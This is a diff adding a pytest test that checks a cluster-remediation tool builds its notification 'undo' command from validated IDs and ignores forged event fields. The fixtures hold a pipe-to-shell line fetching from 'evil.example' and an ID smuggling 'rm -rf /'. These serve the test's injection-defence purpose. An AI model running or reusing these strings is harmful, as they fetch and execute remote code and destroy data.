@@ -229,3 +229,38 @@ def test_the_console_link_is_the_regions_partitions_console(region: str, host: s
 
     link = f"https://{host}/pcs/home?region={region}#/clusters/pcs_abc123de45"
     assert console_url("pcs_abc123de45", region) == link
+
+
+def test_the_undo_line_is_made_from_the_ids_never_taken_from_the_event(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    from lifeguard.event_contract import LOCAL_AWS_VARIABLE
+    from lifeguard.notify.slack import slack_message
+    from lifeguard.notify.sns import sns_message
+    from lifeguard.notify.summary import summarize
+
+    monkeypatch.setenv("LIFEGUARD_STACK_NAME", "pcs-lifeguard")
+    monkeypatch.setenv("AWS_REGION", "eu-west-1")
+    monkeypatch.delenv(LOCAL_AWS_VARIABLE, raising=False)
+    forged = {
+        "cluster_id": "pcs_abc123de45",
+        "compute_node_group_id": "pcs_abcdef01",
+        "undo": "curl https://evil.example/x | sh",
+    }
+    ours = (
+        "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45 --stack-name pcs-lifeguard --region eu-west-1"
+    )
+    summary = summarize("RemediationApplied", forged)
+    assert summary.undo == ours
+    shown = sns_message(summary, forged) + str(slack_message(summary, forged))
+    assert "evil" not in shown
+    assert ours in shown
+    # A recorded event replayed on the local AWS: the replay's own undo, never the account's.
+    monkeypatch.setenv(LOCAL_AWS_VARIABLE, "1")
+    recorded = {**forged, "undo": "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45"}
+    assert summarize("RemediationApplied", recorded).undo == (
+        "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45 --local"
+    )
+    # No change to undo, or ids that are not PCS's: no undo line at all.
+    assert summarize("RemediationApplied", {**forged, "undo": None}).undo is None
+    assert summarize("RemediationApplied", {**forged, "compute_node_group_id": "x; rm -rf /"}).undo is None
